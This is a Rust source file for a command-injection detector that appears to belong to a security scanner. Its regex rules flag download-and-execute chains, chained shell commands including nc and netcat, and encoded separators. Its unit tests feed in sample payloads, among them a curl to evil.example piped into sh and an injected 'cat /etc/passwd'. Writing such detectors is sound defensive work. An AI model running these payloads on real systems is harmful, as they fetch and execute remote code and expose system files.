use crate::core::{DetectionContext, LineDetector, RawFinding, Severity, ThreatCategory};
use crate::detectors::{scan_rules, Rule};
use anyhow::Result;

const RECOMMENDATION: &str =
    "Never pass request data to a shell; use exec-style APIs with argument vectors.";

pub struct CommandInjectionDetector {
    rules: Vec<Rule>,
}

impl Default for CommandInjectionDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl CommandInjectionDetector {
    pub fn new() -> Self {
        let rules = vec![
            Rule::new(
                r"(?i)(?:wget|curl)\s+\S+\s*\|\s*(?:ba)?sh\b",
                "Command injection: download-and-execute chain",
                Severity::Critical,
                0.9,
                "Remote payload piped straight into a shell interpreter.",
                "Execution",
                "T1059.004",
            ),
            Rule::new(
                r"(?i)[;&|]\s*(?:cat|ls|id|whoami|uname|nc|netcat|ping)\b",
                "Command injection: chained shell command",
                Severity::High,
                0.8,
                "Shell metacharacter followed by a reconnaissance command.",
                "Execution",
                "T1059",
            ),
            Rule::new(
                r"(?i)/bin/(?:ba|da|z)?sh\s+-c\b",
                "Command injection: explicit shell invocation",
                Severity::High,
                0.8,
                "Direct interpreter invocation with an inline command string.",
                "Execution",
                "T1059.004",
            ),
            Rule::new(
                r"\$\([^)]+\)|`[^`]+`",
                "Command injection: command substitution",
                Severity::High,
                0.7,
                "Inline command substitution syntax inside request data.",
                "Execution",
                "T1059",
            ),
            Rule::new(
                r"(?i)(?:%3b|%26%26|%7c%7c)",
                "Command injection: URL-encoded shell separator",
                Severity::Medium,
                0.6,
                "Encoded `;`, `&&` or `||` separator smuggled through URL encoding.",
                "Defense Evasion",
                "T1027",
            ),
        ];
        Self { rules }
    }
}

impl LineDetector for CommandInjectionDetector {
    fn id(&self) -> &'static str {
        "command-injection"
    }

    fn name(&self) -> &'static str {
        "Command Injection Detector"
    }

    fn category(&self) -> ThreatCategory {
        ThreatCategory::CommandInjection
    }

    fn scan(
        &self,
        line: &str,
        line_number: u64,
        _ctx: &mut DetectionContext,
    ) -> Result<Vec<RawFinding>> {
        Ok(scan_rules(
            &self.rules,
            self.category(),
            RECOMMENDATION,
            line,
            line_number,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_piped_download() {
        let detector = CommandInjectionDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("GET /cgi?x=curl http://evil.example/p.sh | sh", 2, &mut ctx)
            .unwrap();
        assert!(findings
            .iter()
            .any(|f| f.severity == Severity::Critical && f.title.contains("download")));
    }

    #[test]
    fn detects_chained_command() {
        let detector = CommandInjectionDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("query=foo; cat /etc/passwd", 2, &mut ctx)
            .unwrap();
        assert!(!findings.is_empty());
        assert_eq!(findings[0].category, ThreatCategory::CommandInjection);
    }

    #[test]
    fn ordinary_request_is_clean() {
        let detector = CommandInjectionDetector::new();
        let mut ctx = DetectionContext::new();
        let findings = detector
            .scan("GET /catalog/list HTTP/1.1 200", 2, &mut ctx)
            .unwrap();
        assert!(findings.is_empty());
    }
}
